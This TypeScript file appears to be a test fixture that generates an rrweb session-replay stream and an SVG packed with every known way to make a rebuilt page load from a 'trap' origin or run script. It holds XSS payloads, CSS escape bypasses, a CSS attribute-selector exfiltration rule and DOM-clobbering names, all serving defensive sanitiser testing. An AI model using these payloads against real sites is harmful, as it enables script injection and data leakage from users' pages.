/**
 * A stream that tries everything: each way in which a rebuilt page was seen to reach the network or to run a script,
 * with rrweb's defaults, and the ways round a sanitiser that are known. `trap` is the origin that must never be asked;
 * each attempt names itself in the path.
 */
interface RawNode {
  type: number;
  id: number;
  tagName?: string;
  attributes?: Record<string, unknown>;
  childNodes?: RawNode[];
  textContent?: string;
  isSVG?: true;
  name?: string;
  publicId?: string;
  systemId?: string;
  isShadowHost?: true;
  isShadow?: true;
  isCustom?: true;
  rootId?: number;
}
export interface RawEvent {
  type: number;
  data: unknown;
  timestamp: number;
}

const SCRIPT = "top.document.title='pwned';parent.document.title='pwned'";

export function hostileStream(
  trap: string,
  how: 'all' | 'without what breaks rrweb' = 'all',
): { snapshot: RawEvent[]; events: RawEvent[] } {
  let nextId = 10;
  const at = (name: string): string => `${trap}/${name}`;
  const el = (
    tagName: string,
    attributes: Record<string, unknown> = {},
    childNodes: RawNode[] = [],
    more: Partial<RawNode> = {},
  ): RawNode => ({ type: 2, id: nextId++, tagName, attributes, childNodes, ...more });
  const svg = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: RawNode[] = []): RawNode =>
    el(tagName, attributes, childNodes, { isSVG: true });
  const text = (textContent: string): RawNode => ({ type: 3, id: nextId++, textContent });
  const style = (css: string): RawNode => el('style', {}, [text(css)]);
  const styleAttribute = (css: string): RawNode => el('style', { _cssText: css });

  const html: RawNode[] = [
    el('img', { src: at('img') }),
    el('img', { srcset: `${at('srcset')} 2x` }),
    el('img', { rr_dataURL: at('img-data-url') }),
    el('img', { src: 'x', onerror: SCRIPT }),
    el('IMG', { SRC: at('upper-case'), ONERROR: SCRIPT }),
    el('img', { src: `data:text/html,<script>${SCRIPT}</script>` }),
    el('img', { src: `//${new URL(trap).host}/protocol-relative`, loading: 'eager' }),
    el('picture', {}, [el('source', { srcset: at('source') }), el('img', { src: 'data:,' })]),
    el('div', { style: `background:url(${at('style-attribute')})` }),
    el('div', { style: `background:\\75rl(${at('style-escape')})` }),
    el('div', { style: `background-image:image-set("${at('image-set')}" 1x)` }),
    el('div', { style: `background-image:-webkit-image-set(url(${at('webkit-image-set')}) 1x)` }),
    el('div', { style: `--u:url(${at('variable')});background:var(--u)` }),
    el('div', { style: `--s:"${at('string-variable')}";background:image-set(var(--s) 1x)` }),
    el('div', {
      style: `cursor:url(${at('cursor')}),auto;list-style:url(${at('list')});border-image:url(${at('border')})`,
    }),
    el('div', { style: `filter:url(${at('filter')}#f);mask:url(${at('mask')}#m);clip-path:url(${at('clip')}#c)` }),
    el('div', { style: `shape-outside:url(${at('shape')});float:left` }),
    el('div', {
      style: `filter:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><filter id='f'><feImage href='${at('filter-data')}'/></filter></svg>#f")`,
    }),
    style(`.a{background:url(${at('style')})}body{background:url(${at('body')})}`),
    style(`@import "${at('import')}";`),
    style(`@import url(${at('import-url')}) screen;`),
    style(`@\\69mport "${at('import-escape')}";`),
    style(`@font-face{font-family:f;src:url(${at('font')})}body{font-family:f}`),
    style(`body::before{content:url(${at('content')})}`),
    style(`input[value^="s"]{background:url(${at('exfiltrate')})}`),
    style(`@namespace url(${at('namespace')});`),
    style(`<!-- body::after{content:url(${at('html-comment')})} -->`),
    el('style', {}, [text('p{background:ur'), text(`l(${at('joined')})}`)]),
    el('style', {}, [text('p{background:\\75'), text(`rl(${at('joined-escape')})}`)]),
    el('style', { _cssText: `i{background:ur/* rr_split */l(${at('split')})}` }, [text(''), text('')]),
    styleAttribute(`b{background:url(${at('css-text')})}`),
    styleAttribute(`@import url("${at('css-text-import')}");`),
    el('link', { rel: 'stylesheet', href: at('link') }),
    el('link', { rel: 'preload', as: 'image', href: at('preload') }),
    el('link', { rel: 'prefetch', href: at('prefetch') }),
    el('link', { rel: 'preconnect', href: trap }),
    el('link', { rel: 'dns-prefetch', href: trap }),
    el('link', { rel: 'modulepreload', href: at('modulepreload') }),
    el('link', { rel: 'icon', href: at('icon') }),
    el('link', { rel: 'manifest', href: at('manifest') }),
    el('link', { rel: 'stylesheet', href: at('link-css-text'), _cssText: `u{background:url(${at('link-css')})}` }),
    el('iframe', { src: at('iframe') }),
    el('iframe', { rr_src: at('iframe-rr') }),
    el('iframe', { srcdoc: `<img src="${at('srcdoc')}"><script>${SCRIPT}</script>` }),
    el('iframe', { src: `javascript:${SCRIPT}` }),
    el('object', { data: at('object') }),
    el('object', { data: `javascript:${SCRIPT}`, type: 'text/html' }),
    el('embed', { src: at('embed') }),
    el('frameset', {}, [el('frame', { src: at('frame') })]),
    el('portal', { src: at('portal') }),
    el('fencedframe', { src: at('fencedframe') }),
    el('video', { src: at('video'), poster: at('poster'), autoplay: true, rr_mediaState: 'played' }),
    el('video', {}, [el('source', { src: at('video-source') }), el('track', { src: at('track'), default: '' })]),
    el('audio', { src: at('audio'), preload: 'auto' }),
    el('input', { type: 'image', src: at('input-image') }),
    el('input', { autofocus: true, onfocus: SCRIPT }),
    el('table', { background: at('table') }, [el('td', { background: at('td') })]),
    el('body', { background: at('body-attribute') }),
    el('html', { manifest: at('manifest-attribute') }),
    el('a', { href: `javascript:${SCRIPT}`, ping: at('ping') }, [text('click')]),
    el('a', { href: at('anchor'), attributionsrc: at('attribution') }, [text('there')]),
    el('form', { action: at('form') }, [el('button', { formaction: at('formaction') })]),
    el('details', { open: true, ontoggle: SCRIPT }),
    el('marquee', { onstart: SCRIPT }),
    el('body', { onload: SCRIPT, onpageshow: SCRIPT }),
    el('script', { src: at('script') }),
    el('script', {}, [text(SCRIPT)]),
    el('SCRIPT', {}, [text(SCRIPT)]),
    el('ScRiPt', {}, [text(SCRIPT)]),
    el('noscript', {}, [el('img', { src: at('noscript') })]),
    el('template', {}, [el('img', { src: at('template') })]),
    el('base', { href: `${trap}/base/` }),
    el('img', { src: 'relative-to-base' }),
    el('meta', { 'http-equiv': 'refresh', content: `0;url=${at('refresh')}` }),
    el('meta', { 'http-equiv': 'Content-Security-Policy', content: 'img-src *' }),
    el('canvas', { rr_dataURL: at('canvas') }),
    el(
      'x-evil',
      {},
      [style(`:host{background:url(${at('shadow')})}`)].map((child) => ({ ...child, isShadow: true })),
      {
        isShadowHost: true,
        isCustom: true,
      },
    ),
    el('div', { _cssText: `x{background:url(${at('css-text-div')})}` }),
    el('div', { 'data-x': 'y', imagesrcset: at('imagesrcset'), lowsrc: at('lowsrc'), dynsrc: at('dynsrc') }),
    svg('svg', {}, [
      svg('image', { href: at('svg-image'), 'xlink:href': at('svg-xlink') }),
      svg('use', { href: at('svg-use') + '#a' }),
      svg('script', { href: at('svg-script') }, [text(SCRIPT)]),
      svg('filter', {}, [svg('feimage', { href: at('fe-image') })]),
      svg('foreignobject', {}, [el('img', { src: at('foreign') })]),
      svg('rect', {
        fill: `url(${at('fill')}#a)`,
        stroke: `url(${at('stroke')}#a)`,
        filter: `url(${at('svg-filter')}#f)`,
      }),
      svg('image', { width: '9', height: '9' }, [svg('set', { attributeName: 'href', to: at('svg-set') })]),
      svg('rect', {}, [
        svg('animate', { attributeName: 'fill', values: `url(${at('svg-animate')}#a);red`, dur: '1s' }),
      ]),
      svg('a', { href: `javascript:${SCRIPT}` }, [svg('set', { attributeName: 'href', to: `javascript:${SCRIPT}` })]),
      svg('style', {}, [text(`rect{fill:url(${at('svg-style')}#x)}`)]),
      svg('style', {}, [text(`@import "${at('svg-import')}";`)]),
      svg('rect', { onload: SCRIPT, onbegin: SCRIPT }),
      svg('mpath', { 'xlink:href': at('mpath') }),
      svg('textpath', { href: at('textpath') + '#p' }),
      svg('lineargradient', { href: at('gradient') + '#g' }),
      svg('discard', {}),
    ]),
  ];
  // Names that stand in for members of the document and of forms.
  if (how === 'all') {
    html.push(
      el('form', {}, [el('input', { name: 'appendChild', id: 'setAttribute' }), el('input', { name: 'childNodes' })]),
      el('img', { name: 'documentElement', id: 'createElement' }),
      el('iframe', { name: 'defaultView' }),
      el('form', { name: 'getElementsByTagName' }),
    );
  }
  const page = el('html', {}, [el('head', {}, []), el('body', {}, html)]);
  const snapshot: RawEvent[] = [
    { type: 4, timestamp: 1, data: { href: at('meta'), width: 1024, height: 768 } },
    {
      type: 2,
      timestamp: 2,
      data: {
        node: {
          type: 0,
          id: 1,
          childNodes: [{ type: 1, id: 2, name: 'html', publicId: '', systemId: at('dtd') }, page],
        },
        initialOffset: { top: 0, left: 0 },
      },
    },
  ];

  const body = page.childNodes?.[1]?.id ?? 0;
  const idOf = (tagName: string): number => html.find((node) => node.tagName === tagName)?.id ?? 0;
  const styleNode = html.find((node) => node.tagName === 'style');
  const mutation = (data: Record<string, unknown>): RawEvent => ({
    type: 3,
    timestamp: 3,
    data: { source: 0, adds: [], removes: [], texts: [], attributes: [], ...data },
  });
  const add = (node: RawNode): RawEvent => mutation({ adds: [{ parentId: body, nextId: null, node }] });
  const change = (id: number, attributes: Record<string, unknown>): RawEvent =>
    mutation({ attributes: [{ id, attributes }] });

  const events: RawEvent[] = [
    ...html.filter((_, index) => index % 3 === 0).map((node) => add({ ...node, id: nextId++, childNodes: [] })),
    add(el('script', {}, [])),
    change(idOf('img'), { src: at('mutated-src'), srcset: at('mutated-srcset'), onerror: SCRIPT }),
    change(idOf('iframe'), { src: at('mutated-iframe') }),
    change(idOf('iframe'), { srcdoc: `<script>${SCRIPT}</script>` }),
    change(idOf('link'), { rel: 'stylesheet', href: at('mutated-link') }),
    change(idOf('link'), { _cssText: `s{background:url(${at('mutated-css-text')})}` }),
    change(idOf('div'), {
      style: { 'background-image': `url(${at('style-object')})`, behavior: `url(${at('behavior')})` },
    }),
    change(idOf('div'), { style: { background: [`url(${at('style-priority')})`, 'important'] } }),
    change(idOf('div'), { style: `background:url(${at('style-mutated')})` }),
    change(idOf('object'), { data: at('mutated-object') }),
    change(idOf('video'), { src: at('mutated-video'), poster: at('mutated-poster') }),
    change(idOf('canvas'), { rr_dataURL: at('mutated-canvas') }),
    change(idOf('a'), { href: `javascript:${SCRIPT}` }),
    change(idOf('base'), { href: at('mutated-base') }),
    change(idOf('meta'), { 'http-equiv': 'refresh', content: `0;url=${at('mutated-refresh')}` }),
    mutation({ texts: [{ id: styleNode?.childNodes?.[0]?.id, value: `p{background:url(${at('style-text')})}` }] }),
    {
      type: 3,
      timestamp: 4,
      data: { source: 8, id: styleNode?.id, adds: [{ rule: `q{background:url(${at('rule')})}`, index: 0 }] },
    },
    {
      type: 3,
      timestamp: 4,
      data: { source: 8, id: styleNode?.id, adds: [{ rule: `@import "${at('rule-import')}"`, index: 0 }] },
    },
    {
      type: 3,
      timestamp: 4,
      data: {
        source: 13,
        id: styleNode?.id,
        index: [0],
        set: { property: 'background', value: `url(${at('declaration')})` },
      },
    },
    {
      type: 3,
      timestamp: 5,
      data: {
        source: 15,
        id: 1,
        styles: [{ styleId: 1, rules: [{ rule: `html{background:url(${at('adopted')})}`, index: 0 }] }],
        styleIds: [1],
      },
    },
    { type: 3, timestamp: 5, data: { source: 8, styleId: 1, replaceSync: `html{cursor:url(${at('replace')}),auto}` } },
    { type: 3, timestamp: 6, data: { source: 10, family: 'f', fontSource: `url(${at('font-event')})`, buffer: false } },
    {
      type: 3,
      timestamp: 6,
      data: {
        source: 9,
        id: idOf('canvas'),
        type: 0,
        property: 'drawImage',
        args: [{ rr_type: 'HTMLImageElement', src: at('canvas-event') }],
      },
    },
    { type: 3, timestamp: 6, data: { source: 7, type: 0, id: idOf('video') } },
    { type: 7, timestamp: 7, data: { url: at('asset-event'), payload: { rr_type: 'CssText', cssTexts: [] } } },
    { type: 6, timestamp: 7, data: { plugin: 'rrweb/canvas-webrtc@1', payload: {} } },
  ] as RawEvent[];
  return { snapshot, events };
}

/** An SVG file with a `symbol` called `part`, ten wide, and everything in and around it that loads or runs. */
export function hostileDrawing(trap: string): string {
  const at = (name: string): string => `${trap}/${name}`;
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${SCRIPT}">
    <style>@import url(${at('import.css')}); @font-face { font-family: x; src: url(${at('font.woff2')}) }
      rect { background: url(${at('background')}); mask: url(${at('mask-rule.svg')}#m); fill: red }</style>
    <style>rect { cursor: image-set("${at('set')}" 1x), auto }</style><style>rect { cursor: \\75rl(${at('escape')}), auto }</style>
    <script>${SCRIPT}</script><script href="${at('script.js')}"/><script xlink:href="${at('script-2.js')}"/>
    <symbol id="part" viewBox="0 0 10 10" onclick="${SCRIPT}"><rect width="10" height="10" style="cursor:url(${at('cursor')}),auto"/>
      <rect width="4" height="4" mask="url(${at('mask.svg')}#m)" fill="url(${at('fill.svg')}#f)" filter="url(#q)"/>
      <image href="${at('image')}" width="5" height="5"/><image xlink:href="${at('image-2')}" width="5" height="5"/>
      <use href="${at('use.svg')}#x"/><use xlink:href="${at('use-2.svg')}#x"/><text font-family="x">text</text>
      <foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${at('img')}"/></foreignObject>
      <filter id="q"><feImage href="${at('fe')}"/></filter><a href="${at('a')}"><rect width="1" height="1"/></a>
      <animate attributeName="href" to="${at('animate')}"/><set attributeName="fill" to="url(${at('set-fill')}#f)"/></symbol>
  </svg>`;
}
